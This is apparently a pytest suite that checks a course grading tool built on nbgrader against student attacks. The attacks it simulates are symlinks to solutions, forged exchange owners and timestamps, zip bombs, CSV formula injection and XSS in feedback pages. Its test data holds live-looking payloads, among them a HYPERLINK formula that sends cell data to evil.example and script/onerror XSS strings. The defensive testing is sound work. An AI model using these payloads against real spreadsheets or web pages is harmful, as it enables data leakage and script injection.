"""Students attacking collect, export and feedback with real uploads: each attack is refused.

Every test builds real inboxes (folders, zips, symbolic links, an nbgrader exchange), runs the real
``collect``, ``autograde``, ``export_csv`` and ``feedback`` on the fixture course, and checks that
the attack gets nothing, that the instructor is told why and what to do, and that every other
student is still collected.

1. Symbolic links are never followed (a link to the instructor's solution is not a submission).
2. An exchange submission counts only if its folder belongs to the student it names, and only if
   its timestamp is a date that is not in the future.
3. Uploads whose ids name one student (``bob/`` and ``bob.zip``, ``' dave'``, NFD, case) are all
   refused; what was collected before stays.
4. Zips are read within limits (files, bytes, compression ratio); a refused zip leaves nothing.
5. Student ids cannot run as spreadsheet formulas in the CSV; student HTML and JavaScript cannot
   run in the feedback pages.
"""
from __future__ import annotations

import csv
import json
import os
import pwd
import re
import shutil
import stat
import subprocess
import sys
import unicodedata
import zipfile
from datetime import datetime, timedelta, timezone
from pathlib import Path

import nbformat
import pytest

from classroom import A, FIXTURE, released_course
from csv_formulas import DELIMITERS, formula_cells
from page_payloads import active_markup
from grader.authoring.assembly import build, release
from grader.engine.notebook import cells as nbs
from grader.intake.collect import collect
from grader.intake.zips import MAX_MEMBERS, ZipLimits
from grader.results.export import export_csv, spreadsheet_cell
from grader.results.feedback import feedback
from grader.running.batch import autograde

ME = pwd.getpwuid(os.geteuid()).pw_name  # the owner of every folder these tests create
NBGRADER = "import sys; from nbgrader.apps.nbgraderapp import main; sys.exit(main())"


@pytest.fixture(scope="module")
def released(tmp_path_factory):
    """The fixture course, built and released; its solution lies in source/01_fixture/."""
    return released_course(tmp_path_factory.mktemp("attacks") / "course")


@pytest.fixture
def course(released, tmp_path):
    """A fresh copy of the released course, so that each test starts with nothing collected."""
    root = tmp_path / "course"
    shutil.copytree(released, root)
    return root


def solution(root: Path) -> Path:
    return root / "source" / A / f"{A}.ipynb"


def notebook_bytes(tag: str) -> bytes:
    """A correct submission, marked by ``tag`` in its metadata so that tests can tell copies apart."""
    nb = nbs.read_notebook(FIXTURE)
    nb.metadata["tag"] = tag
    return nbformat.writes(nb).encode()


def hand_in(folder: Path, tag: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / f"{A}.ipynb").write_bytes(notebook_bytes(tag))
    return folder


def kept_tag(root: Path, student: str) -> str | None:
    """The tag of the notebook collected for ``student``; None if nothing was collected."""
    path = root / "submitted" / student / A / f"{A}.ipynb"
    return nbs.read_notebook(path).metadata.get("tag") if path.exists() else None


def reasons(report) -> dict[str, str]:
    return {r.where: r.reason for r in report.rejected}


# 1. Symbolic links ------------------------------------------------------------------------------

def test_a_student_folder_that_links_to_the_solutions_is_refused(course, tmp_path):
    inbox = tmp_path / "inbox"
    hand_in(inbox / "honest", "honest")
    (inbox / "mallory").symlink_to(solution(course).parent, target_is_directory=True)
    report = collect(course, inbox)
    why = reasons(report)["mallory"]
    assert "symbolic link" in why and "never followed" in why and "itself" in why
    assert not (course / "submitted" / "mallory").exists()
    assert kept_tag(course, "honest") == "honest"


def test_a_notebook_that_links_to_the_solution_is_refused(course, tmp_path):
    inbox = tmp_path / "inbox"
    hand_in(inbox / "honest", "honest")
    (inbox / "mallory").mkdir()
    (inbox / "mallory" / f"{A}.ipynb").symlink_to(solution(course))
    report = collect(course, inbox)
    why = reasons(report)[f"mallory/{A}.ipynb"]
    assert "symbolic link" in why and "never followed" in why and "itself" in why
    assert not (course / "submitted" / "mallory").exists(), "the instructor's solution was collected"
    assert kept_tag(course, "honest") == "honest"


def test_links_to_folders_inside_an_upload_are_not_entered(course, tmp_path):
    """A link named like a folder (``hw``) or like a notebook, pointing at the solution's folder."""
    inbox = tmp_path / "inbox"
    (inbox / "mallory").mkdir(parents=True)
    (inbox / "mallory" / "hw").symlink_to(solution(course).parent, target_is_directory=True)
    (inbox / "mallory" / f"{A}.ipynb").symlink_to(solution(course).parent, target_is_directory=True)
    report = collect(course, inbox)
    assert "symbolic link" in reasons(report)["mallory/hw"]
    assert "symbolic link" in reasons(report)[f"mallory/{A}.ipynb"]
    assert report.imported == [] and not (course / "submitted" / "mallory").exists()


def test_a_zip_that_is_a_link_is_refused(course, tmp_path):
    stolen = tmp_path / "elsewhere" / "answers.zip"
    stolen.parent.mkdir()
    with zipfile.ZipFile(stolen, "w") as zf:
        zf.write(solution(course), f"{A}.ipynb")
    inbox = tmp_path / "inbox"
    hand_in(inbox / "honest", "honest")
    (inbox / "mallory.zip").symlink_to(stolen)
    report = collect(course, inbox)
    assert "symbolic link" in reasons(report)["mallory.zip"]
    assert not (course / "submitted" / "mallory").exists() and kept_tag(course, "honest") == "honest"


def test_a_zip_member_stored_as_a_link_is_refused(course, tmp_path):
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    link = zipfile.ZipInfo(f"hw/{A}.ipynb")
    link.create_system = 3  # unix: the mode below is a symbolic link's
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    with zipfile.ZipFile(inbox / "mallory.zip", "w") as zf:
        zf.writestr(link, str(solution(course)))
    report = collect(course, inbox)
    assert "symbolic link" in reasons(report)[f"mallory.zip/hw/{A}.ipynb"]
    assert not (course / "submitted" / "mallory").exists()


# 2. The exchange: owners and timestamps ---------------------------------------------------------

def submit(inbound: Path, student: str, stamp: str, tag: str, suffix: str = "x") -> Path:
    """What `nbgrader submit` leaves in the exchange, made by whoever runs the tests."""
    folder = hand_in(inbound / f"{student}+{A}+{stamp}+{suffix}", tag)
    (folder / "timestamp.txt").write_text(stamp)
    return folder


def utc(moment: datetime) -> str:
    return moment.strftime("%Y-%m-%d %H:%M:%S.%f UTC")


NOW = datetime.now(timezone.utc)
EARLIER = utc(NOW - timedelta(days=2))
LATER = utc(NOW - timedelta(hours=1))


def test_an_exchange_submission_in_another_students_name_is_refused(course, tmp_path):
    inbound = tmp_path / "exchange" / "d2lite" / "inbound"
    submit(inbound, ME, EARLIER, "mine")
    impostor = submit(inbound, "eve", LATER, "written by someone else")
    report = collect(course, tmp_path / "exchange")
    why = reasons(report)[impostor.name]
    assert f"claims to be submitted by 'eve' but its folder belongs to user {ME!r}" in why
    assert "--no-check-owner" in why
    assert not (course / "submitted" / "eve").exists()
    assert kept_tag(course, ME) == "mine"


def test_the_owner_check_is_turned_off_only_explicitly(course, tmp_path):
    inbound = tmp_path / "exchange" / "d2lite" / "inbound"
    submit(inbound, "eve", EARLIER, "copied exchange")
    report = collect(course, tmp_path / "exchange", check_owner=False)
    assert report.rejected == [] and kept_tag(course, "eve") == "copied exchange"


@pytest.mark.required_in_ci("run the tests as root (CI does): only root can give a folder to another user")
@pytest.mark.skipif(os.geteuid() != 0, reason="giving a folder to another user needs root")
def test_the_owner_is_read_from_the_folder_not_from_its_name(course, tmp_path):
    nobody = pwd.getpwnam("nobody")
    inbound = tmp_path / "exchange" / "d2lite" / "inbound"
    theirs = submit(inbound, "nobody", EARLIER, "nobody's own")
    forged = submit(inbound, ME, LATER, "in my name, by nobody")
    for folder in (theirs, forged):
        os.chown(folder, nobody.pw_uid, nobody.pw_gid)
    report = collect(course, tmp_path / "exchange")
    assert kept_tag(course, "nobody") == "nobody's own"
    assert "belongs to user 'nobody'" in reasons(report)[forged.name]
    assert kept_tag(course, ME) is None


def test_future_timestamps_are_refused_and_the_latest_valid_submission_wins(course, tmp_path):
    inbound = tmp_path / "exchange" / "d2lite" / "inbound"
    submit(inbound, ME, EARLIER, "first")
    submit(inbound, ME, LATER, "second")
    far = submit(inbound, ME, "2999-01-01 00:00:00.000000 UTC", "dated to win forever")
    soon = submit(inbound, ME, utc(NOW + timedelta(minutes=30)), "dated half an hour ahead")
    report = collect(course, tmp_path / "exchange")
    assert "in the future" in reasons(report)[far.name] and "submit again" in reasons(report)[far.name]
    assert "in the future" in reasons(report)[soon.name]
    assert kept_tag(course, ME) == "second"
    stored = (course / "submitted" / ME / A / "timestamp.txt").read_text()
    assert stored == LATER


def test_a_clock_a_minute_ahead_is_tolerated(course, tmp_path):
    inbound = tmp_path / "exchange" / "d2lite" / "inbound"
    submit(inbound, ME, EARLIER, "first")
    submit(inbound, ME, utc(datetime.now(timezone.utc) + timedelta(minutes=1)), "fast clock")
    report = collect(course, tmp_path / "exchange")
    assert report.rejected == [] and kept_tag(course, ME) == "fast clock"


def test_an_unreadable_timestamp_is_refused_without_stopping_collect(course, tmp_path):
    inbound = tmp_path / "exchange" / "d2lite" / "inbound"
    garbled = submit(inbound, "eve", EARLIER, "eve")
    (garbled / "timestamp.txt").write_text("the day before the deadline, honest")
    submit(inbound, "frank", EARLIER, "frank")
    report = collect(course, tmp_path / "exchange", check_owner=False)
    assert "is not a date" in reasons(report)[garbled.name]
    assert kept_tag(course, "eve") is None and kept_tag(course, "frank") == "frank"


def test_a_timestamp_that_links_elsewhere_is_not_read(course, tmp_path):
    inbound = tmp_path / "exchange" / "d2lite" / "inbound"
    linked = submit(inbound, ME, EARLIER, "mine")
    (linked / "timestamp.txt").unlink()
    secret = tmp_path / "secret.txt"
    secret.write_text(LATER)
    (linked / "timestamp.txt").symlink_to(secret)
    report = collect(course, tmp_path / "exchange")
    assert "timestamp.txt that is a symbolic link" in reasons(report)[linked.name]
    assert kept_tag(course, ME) is None


def test_only_a_submission_secret_as_nbgrader_writes_it_is_kept(course, tmp_path):
    """The secret names the feedback released for a submission (grader/results/feedback_release.py): kept when
    it is nbgrader's hex token; a link (to, say, the course's key) or other text is not read or kept,
    and the notebook is collected all the same."""
    inbound = tmp_path / "exchange" / "d2lite" / "inbound"
    token = "0123456789abcdef" * 8  # as long as nbgrader's secrets.token_hex(64)
    for student, secret in (("ann", token), ("bob", "../../x"), ("cy", None)):
        folder = submit(inbound, student, EARLIER, student)
        if secret is not None:
            (folder / "submission_secret.txt").write_text(secret)
    key = tmp_path / "course-key"
    key.write_text(token[::-1])
    (inbound / f"cy+{A}+{EARLIER}+x" / "submission_secret.txt").symlink_to(key)
    collect(course, tmp_path / "exchange", check_owner=False)
    kept = {s: course / "submitted" / s / A / "submission_secret.txt" for s in ("ann", "bob", "cy")}
    assert kept["ann"].read_text() == token
    assert not kept["bob"].exists() and not kept["cy"].exists()
    assert [kept_tag(course, s) for s in ("ann", "bob", "cy")] == ["ann", "bob", "cy"]


# 3. Ids that name one student -------------------------------------------------------------------

def zip_of(path: Path, tag: str) -> Path:
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr(f"{A}.ipynb", notebook_bytes(tag))
    return path


def test_a_folder_and_a_zip_of_one_student_are_both_refused(course, tmp_path):
    inbox = tmp_path / "inbox"
    hand_in(inbox / "bob", "bob's folder")
    zip_of(inbox / "bob.zip", "bob's zip")
    hand_in(inbox / "carol", "carol")
    report = collect(course, inbox)
    assert "'bob.zip'" in reasons(report)["bob"] and "'bob'" in reasons(report)["bob.zip"]
    assert "none of them was collected" in reasons(report)["bob"]
    assert kept_tag(course, "bob") is None and kept_tag(course, "carol") == "carol"


@pytest.mark.parametrize("first, second", [
    ("dave", " dave"),
    (unicodedata.normalize("NFC", "Zoë"), unicodedata.normalize("NFD", "Zoë")),
    ("Erin", "erin"),
], ids=["leading space", "NFC and NFD", "case"])
def test_ids_that_name_one_student_are_all_refused(course, tmp_path, first, second):
    inbox = tmp_path / "inbox"
    hand_in(inbox / first, "first")
    hand_in(inbox / second, "second")
    hand_in(inbox / "carol", "carol")
    report = collect(course, inbox)
    assert set(reasons(report)) == {first, second}
    assert repr(second) in reasons(report)[first] and repr(first) in reasons(report)[second]
    assert [p.parent.parent.name for p in (course / "submitted").glob(f"*/{A}/*.ipynb")] == ["carol"]


def test_a_refused_collision_keeps_what_was_collected_before(course, tmp_path):
    hand_in(tmp_path / "monday" / "bob", "monday")
    collect(course, tmp_path / "monday")
    hand_in(tmp_path / "tuesday" / "bob", "tuesday")
    zip_of(tmp_path / "tuesday" / "bob .zip", "tuesday zip")
    report = collect(course, tmp_path / "tuesday")
    assert set(reasons(report)) == {"bob", "bob .zip"}
    assert kept_tag(course, "bob") == "monday"


def test_exchange_ids_that_name_one_student_are_all_refused(course, tmp_path):
    inbound = tmp_path / "exchange" / "d2lite" / "inbound"
    upper = submit(inbound, "Frank", EARLIER, "Frank")
    lower = submit(inbound, "frank", LATER, "frank")
    report = collect(course, tmp_path / "exchange", check_owner=False)
    assert "'frank'" in reasons(report)[upper.name] and "'Frank'" in reasons(report)[lower.name]
    assert report.imported == []


# 4. Zips within limits --------------------------------------------------------------------------

def test_a_zip_bomb_is_refused_before_anything_is_unpacked(course, tmp_path):
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    with zipfile.ZipFile(inbox / "bomber.zip", "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(f"{A}.ipynb", notebook_bytes("bomber"))
        zf.writestr("padding.ipynb", b"\0" * (16 << 20))  # 16 MB of zeros deflate to 16 kB
    hand_in(inbox / "carol", "carol")
    report = collect(course, inbox)
    why = reasons(report)["bomber.zip"]
    assert "compression ratio" in why and "'padding.ipynb'" in why and "nothing was unpacked" in why
    assert kept_tag(course, "bomber") is None and kept_tag(course, "carol") == "carol"


def test_a_zip_with_too_many_files_is_refused(course, tmp_path):
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    with zipfile.ZipFile(inbox / "many.zip", "w") as zf:
        zf.writestr(f"{A}.ipynb", notebook_bytes("many"))
        for i in range(MAX_MEMBERS):
            zf.writestr(f"junk/{i}.txt", b"")
    report = collect(course, inbox)
    assert f"holds {MAX_MEMBERS + 1} files, more than {MAX_MEMBERS}" in reasons(report)["many.zip"]
    assert kept_tag(course, "many") is None


def test_a_zip_larger_than_the_limit_is_refused(course, tmp_path):
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    with zipfile.ZipFile(inbox / "big.zip", "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(f"{A}.ipynb", notebook_bytes("big"))
        zf.writestr("data.bin", os.urandom(2 << 20))  # does not compress: the ratio is fine
    report = collect(course, inbox, zip_limits=ZipLimits(max_bytes=1 << 20))
    assert "unpacks to 2 MB, more than 1 MB" in reasons(report)["big.zip"]
    assert kept_tag(course, "big") is None
    assert collect(course, inbox).rejected == [] and kept_tag(course, "big") == "big", "within the default limit"


def test_a_zip_whose_headers_lie_is_refused_and_leaves_nothing(course, tmp_path):
    """Headers claim 1000 bytes for a member that inflates to 8 MB; the notebook before it is not kept."""
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    archive = inbox / "liar.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(f"{A}.ipynb", notebook_bytes("liar"))
        zf.writestr("later.ipynb", b" " * (8 << 20))
    data = bytearray(archive.read_bytes())
    true_size = (8 << 20).to_bytes(4, "little")
    patched = data.replace(true_size, (1000).to_bytes(4, "little"))
    assert data.count(true_size) == 2, "the local header and the central directory each state the size"
    archive.write_bytes(patched)
    report = collect(course, inbox)
    why = reasons(report)["liar.zip"]
    assert "not a readable zip" in why and "ask for it again" in why
    assert kept_tag(course, "liar") is None and not (course / "submitted").exists()


# 5. The CSV and the feedback pages --------------------------------------------------------------

FORMULA_IDS = ["=1+2", "@SUM(1+1)", "-2+3", "+44 20 7946 0958"]
PAYLOAD = '''from IPython.display import HTML, Javascript, Markdown, display
tag = "pwn" + "ed"  # the payloads below only appear, whole, in outputs
display(HTML(f"<b>script follows</b><script>window.{tag}_script = 1</script>"))
display(HTML(f'<i>image follows</i><img src="x" onerror="window.{tag}_img = 1">'))
display(Javascript(f"window.{tag}_js = 1"))
display(Markdown(f"[a link](javascript:window.{tag}_link=1)"))
'''
FIGURE = '<img src="data:image/png;base64,iVBORw0KGgo=" alt="the instructor\'s figure">'
INSTRUCTOR_MARKDOWN = f"Compare `x < y` with **care**; a figure: {FIGURE}"


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """A class with formula-like ids and one student whose answer displays scripts; graded."""
    base = tmp_path_factory.mktemp("graded")
    source = nbs.read_notebook(FIXTURE)
    source.cells.insert(1, nbformat.v4.new_markdown_cell(INSTRUCTOR_MARKDOWN))
    nbs.write_notebook(source, base / "course-src" / FIXTURE.name)
    root = base / "course"
    build(root, base / "course-src")
    release(root)
    attack = nbs.read_notebook(base / "course-src" / FIXTURE.name)
    answer = next(c for c in attack.cells if nbs.nbgrader_meta(c).get("grade_id") == "scale")
    answer.source = PAYLOAD + answer.source
    for student in FORMULA_IDS:
        nbs.write_notebook(source, base / "inbox" / student / FIXTURE.name)
    nbs.write_notebook(attack, base / "inbox" / "xss" / FIXTURE.name)
    report = collect(root, base / "inbox")
    assert report.rejected == [] and len(report.imported) == len(FORMULA_IDS) + 1
    autograde(root, workers=2, unsafe=False)
    return root


@pytest.fixture
def graded_copy(graded, tmp_path):
    """A copy of the graded class for a test that writes into it (feedback): the module's stays as graded."""
    return shutil.copytree(graded, tmp_path / "course")


def stock_nbgrader(root: Path, *args: str) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("COURSE_GRADER", "NBGRADER"))}
    env["PATH"] = str(Path(sys.executable).parent) + os.pathsep + env.get("PATH", "")
    done = subprocess.run([sys.executable, "-c", NBGRADER, *args], cwd=root, env=env, capture_output=True,
                          text=True, timeout=600)
    assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-2000:]
    return done


def assert_spreadsheet_safe(path: Path) -> None:
    rows = {r["student_id"]: r for r in csv.DictReader(path.open(encoding="utf-8", newline=""))}
    assert set(rows) == {"'" + s for s in FORMULA_IDS} | {"xss"}
    for row in rows.values():
        assert float(row["score"]) == 6.0 and row["max_score"] == "6.0", "numbers stay numbers"


def test_export_escapes_ids_a_spreadsheet_would_run(graded, tmp_path):
    assert_spreadsheet_safe(export_csv(graded, tmp_path / "grades.csv"))


def test_stock_nbgrader_export_escapes_them_too(graded, tmp_path):
    stock_nbgrader(graded, "export", "--to", str(tmp_path / "stock.csv"))
    assert_spreadsheet_safe(tmp_path / "stock.csv")


@pytest.mark.parametrize("value, cell", [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("bob", "bob"), ("Zoë Ñ", "Zoë Ñ"), ("", ""), (None, ""), (-1.5, -1.5), (6.0, 6.0),
    ("eve;=1+1", "eve;'=1+1"), ("a|=1", "a|'=1"), ("\t=1", "'\t'=1"), (" =1", "' =1"), ('"=1', '\'"=1'),
])
def test_spreadsheet_cells_follow_owasp(value, cell):
    """Text that starts like a formula gets a leading quote; numbers stay numbers."""
    assert spreadsheet_cell(value) == cell


# Ids (and names, e-mails) that only become formulas once a spreadsheet splits the line on another
# separator than the comma: ``;`` (many European locales), tab, ``|``. collect refuses control
# characters in ids, but the gradebook also takes students from nbgrader's own commands.
SPLIT_ATTACKS = {  # student id -> its CSV cell, by the rule of grader/results/export.py's docstring
    "eve;=1+1": "eve;'=1+1",
    '=HYPERLINK("http://evil.example/?"&A1;"x")': '\'=HYPERLINK("http://evil.example/?"&A1;"x")',
    "\t=1": "'\t'=1",
    "a|=1": "a|'=1",
    "b, -1+2": "b,' -1+2",
    'c;"@SUM(1)': 'c;\'"@SUM(1)',
}


@pytest.fixture(scope="module")
def split_gradebook(released, tmp_path_factory):
    """The released course whose gradebook holds students named to attack every separator."""
    from nbgrader.api import Gradebook

    root = tmp_path_factory.mktemp("split") / "course"
    shutil.copytree(released, root)
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
        for student in SPLIT_ATTACKS:
            gb.add_student(student, last_name="x;=1+1", first_name="@y", email="z|-2+3@example.org")
    return root


def test_export_is_safe_whatever_separator_the_spreadsheet_splits_on(split_gradebook, tmp_path):
    path = export_csv(split_gradebook, tmp_path / "grades.csv")
    assert formula_cells(path) == {d: [] for d in DELIMITERS}
    rows = list(csv.DictReader(path.open(encoding="utf-8", newline="")))
    assert {r["student_id"] for r in rows} == set(SPLIT_ATTACKS.values())
    assert {(r["last_name"], r["first_name"], r["email"]) for r in rows} == {("x;'=1+1", "'@y", "z|'-2+3@example.org")}
    assert {r["max_score"] for r in rows} == {"6.0"}, "numbers stay numbers"


def test_stock_nbgrader_export_is_safe_whatever_the_separator(split_gradebook, tmp_path):
    stock_nbgrader(split_gradebook, "export", "--to", str(tmp_path / "stock.csv"))
    assert formula_cells(tmp_path / "stock.csv") == {d: [] for d in DELIMITERS}


def test_formula_cells_finds_what_an_unescaped_export_leaves(split_gradebook, tmp_path):
    """The check above can fail: nbgrader's own CSV plugin, on the same gradebook, leaves formulas."""
    from nbgrader.api import Gradebook
    from nbgrader.plugins.export import CsvExportPlugin

    path = tmp_path / "plain.csv"
    with Gradebook(f"sqlite:///{split_gradebook / 'gradebook.db'}") as gb:
        CsvExportPlugin(to=str(path)).export(gb)
    found = formula_cells(path)
    assert all(found[d] for d in DELIMITERS), found


def test_active_markup_finds_what_would_run_and_not_what_is_shown_as_text():
    """The reader the feedback tests rely on: it must see each way a page runs script (else their
    `== []` would prove nothing), and not the same text shown escaped, as a student's source is."""
    page = ('<p>&lt;img src=x onerror="window.pwned_a"&gt; javascript:window.pwned_b</p>'
            '<img src=x width=1 onerror=window.pwned_c><a href=" JavaScript:window.pwned_d">x</a>'
            '<svg onload="window.pwned_e"></svg><script>window.pwned_f = 1</script><script>var ok = 1</script>')
    found = active_markup(page)
    assert [f for f in found if "pwned_a" in f or "pwned_b" in f] == []
    assert all(any(name in f for f in found) for name in ("pwned_c", "pwned_d", "pwned_e", "pwned_f")), found
    assert len(found) == 4, found


def test_the_payload_reaches_the_autograded_notebook_only_as_text(graded):
    """The kernel sent it (without this the feedback tests below would prove nothing), and the
    grader kept it only cleaned: formgrader shows the autograded notebook to the instructor.
    Raw payloads reaching feedback (a notebook stock nbgrader autograded) are tested in
    tests/test_feedback_in_browser.py."""
    text = (graded / "autograded" / "xss" / A / f"{A}.ipynb").read_text(encoding="utf-8")
    for part in ["<b>script follows</b>", "<i>image follows</i>", ">a link</a>"]:  # what is left of each (nh3)
        assert part in text, part
    for part in ["<script>window.pwned", "window.pwned_img", "window.pwned_js", "javascript:window.pwned_link"]:
        assert part not in text, part


def test_feedback_runs_no_script_from_the_student(graded_copy):
    pages = feedback(graded_copy)
    page = (graded_copy / "feedback" / "xss" / A / f"{A}.html").read_text(encoding="utf-8")
    assert page in [p.read_text(encoding="utf-8") for p in pages]
    assert active_markup(page) == []
    assert "<b>script follows</b>" in page, "the student sees what their code displayed, less the script"
    assert "PASSED (2/2)" in page, "verdicts are still shown"


def test_instructor_markdown_is_not_garbled_by_the_sanitizer(graded_copy):
    feedback(graded_copy, students=["xss"])
    page = (graded_copy / "feedback" / "xss" / A / f"{A}.html").read_text(encoding="utf-8")
    assert "<code>x &lt; y</code>" in page
    assert re.search(r"<img [^>]*alt=\"the instructor's figure\"", page), "the instructor's image is shown"


def test_feedback_is_sanitized_even_with_an_older_course_config(graded, tmp_path):
    """A course directory built before the sanitizer existed: course-grader's feedback still adds it."""
    old = tmp_path / "old course"
    shutil.copytree(graded, old, ignore=shutil.ignore_patterns("feedback"))
    config = old / "nbgrader_config.py"
    text = config.read_text(encoding="utf-8")
    assert "c.GenerateFeedback.preprocessors = feedback_preprocessors()" in text
    config.write_text(text.replace(
        "c.GenerateFeedback.preprocessors = feedback_preprocessors()",
        "from grader.results.feedback import HideHiddenTests\n"
        "from nbgrader.preprocessors import GetGrades\n"
        "from nbconvert.preprocessors import CSSHTMLHeaderPreprocessor\n"
        "c.GenerateFeedback.preprocessors = [HideHiddenTests, GetGrades, CSSHTMLHeaderPreprocessor]"),
        encoding="utf-8")
    feedback(old, students=["xss"])
    page = (old / "feedback" / "xss" / A / f"{A}.html").read_text(encoding="utf-8")
    assert active_markup(page) == [] and "PASSED (2/2)" in page
    assert "<script" not in page, "nor MathJax from a CDN: the page exporter is imposed too (issue 31, item 6)"


def test_stock_nbgrader_feedback_is_sanitized_too(graded, tmp_path):
    copy = tmp_path / "stock"
    shutil.copytree(graded, copy, ignore=shutil.ignore_patterns("feedback"))
    stock_nbgrader(copy, "generate_feedback", A, "--student", "xss", "--force")
    page = (copy / "feedback" / "xss" / A / f"{A}.html").read_text(encoding="utf-8")
    assert active_markup(page) == [] and "<b>script follows</b>" in page
    assert "<script" not in page, "the course's config names the exporter that loads no MathJax (issue 31, item 6)"


def test_uploads_refused_for_clashing_ids_are_carried_to_the_table_and_the_export(course, tmp_path):
    """Issue 31 (2): uploads refused because their ids name one student (bob/, Bob/, bob.zip) vanished: not in
    the grade table, "needs attention", the counts or the export. They are carried as an unreadable upload is."""
    from grader.intake.summary import collect_lines
    from grader.results.table import grade_table

    inbox = tmp_path / "inbox"
    hand_in(inbox / "bob", "bob's folder")
    hand_in(inbox / "Bob", "Bob's folder")
    zip_of(inbox / "bob.zip", "bob's zip")
    hand_in(inbox / "carol", "carol")
    report = collect(course, inbox)
    assert set(reasons(report)) == {"bob", "Bob", "bob.zip"}, reasons(report)
    assert kept_tag(course, "Bob") is None and kept_tag(course, "bob") is None  # still nothing of theirs is graded
    record = json.loads((course / "submitted" / "Bob" / A / "rejected.json").read_text(encoding="utf-8"))
    assert set(record) == {f"{A}.ipynb"}, record
    assert "Bob, bob, bob.zip all name this student" in record[f"{A}.ipynb"], record
    assert collect_lines(report, str(inbox))[-1] == "1 notebook(s) collected, 3 rejected"
    again = collect(course, inbox)  # the record is kept as it was, not written twice
    assert again.imported == [] and len(again.rejected) == 3
    outcomes = autograde(course, workers=1, unsafe=False)
    table = grade_table(course, outcomes)
    attention = table.split("needs attention")[1]
    assert f"Bob / {A}: rejected at collect, ask the student to re-submit: the uploads Bob, bob, bob.zip" \
        in attention, table
    rows = {r["student_id"]: r for r in csv.DictReader(export_csv(course, tmp_path / "grades.csv").open(encoding="utf-8"))
            if r["assignment"] == A}
    assert set(rows) == {"Bob", "carol"} and float(rows["Bob"]["score"]) == 0.0, rows
